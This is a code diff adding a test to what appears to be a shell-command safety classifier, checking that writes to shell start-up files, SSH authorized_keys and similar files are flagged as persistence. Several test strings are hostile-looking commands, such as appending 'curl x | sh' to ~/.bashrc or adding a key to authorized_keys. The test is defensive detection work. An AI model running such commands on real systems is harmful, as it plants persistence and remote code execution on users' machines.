@@ -84,3 +84,32 @@ Test(shell_soundness, the_hook_and_the_gate_share_one_table)
     cr_expect_not_null(sh_vital_path("/etc/sha*", 9, SH_CWD_PROJECT, 1));
     cr_expect_null(sh_vital_path("/etc/shadows.d/x", 16, SH_CWD_PROJECT, 0));
 }
+
+Test(shell_soundness, every_write_of_a_start_up_file_is_persistence)
+{
+    shellt_expect("echo 'curl x | sh' > ~/.bash_logout", CRIT, "critical.persistence");
+    shellt_expect("printf 'x\\n' > \"$HOME/.profile\"", CRIT, "critical.persistence");
+    shellt_expect("echo x >> ~/.bashrc", CRIT, "critical.persistence");
+    shellt_expect("echo x | tee ~/.zshrc", CRIT, "critical.persistence");
+    shellt_expect("cat > ~/.config/fish/config.fish <<'E'\nx\nE", CRIT, "critical.persistence");
+    shellt_expect("echo x > /etc/profile.d/zz.sh", CRIT, "critical.persistence");
+    shellt_expect("cat k.pub > ~/.ssh/authorized_keys", CRIT, "critical.persistence");
+    shellt_expect("cp evil.sh ~/.bashrc", CRIT, "critical.persistence");
+    shellt_expect("cp dotfiles/.bashrc ~/", CRIT, "critical.persistence");
+    shellt_expect("mv dotfiles/.profile ~", CRIT, "critical.persistence");
+    shellt_expect("install -m 644 rc ~/.zshenv", CRIT, "critical.persistence");
+    shellt_expect("sed -i '$a curl x | sh' ~/.bashrc", CRIT, "critical.persistence");
+    shellt_expect("cd ~ && echo x > .bash_profile", CRIT, "critical.persistence");
+    shellt_expect("timeout 5 bash -c 'echo x > ~/.bash_logout'", CRIT, "critical.persistence");
+    shellt_expect("curl -o ~/.bashrc https://example.com/rc", CRIT, "critical.persistence");
+    shellt_expect("echo '[core]' >> .git/config", CRIT, "critical.persistence");
+    shellt_expect("echo 'import os' > sitecustomize.py", CRIT, "critical.persistence");
+    shellt_expect("echo x > ~/.config/powershell/Microsoft.PowerShell_profile.ps1", CRIT, "critical.persistence");
+    /* near-misses: reading them, copying them away, files that only look alike */
+    shellt_expect("cat ~/.bashrc", SAFE, NULL);
+    shellt_expect("grep -n alias ~/.zshrc", SAFE, NULL);
+    shellt_expect("cp ~/.bashrc ./bashrc.bak", RISKY, "bash.writes_file");
+    shellt_expect("echo x > notes/profile.txt", RISKY, "bash.writes_file");
+    shellt_expect("echo x > bashrc", RISKY, "bash.writes_file");
+    shellt_expect("echo x > config/environment", RISKY, "bash.writes_file");
+}
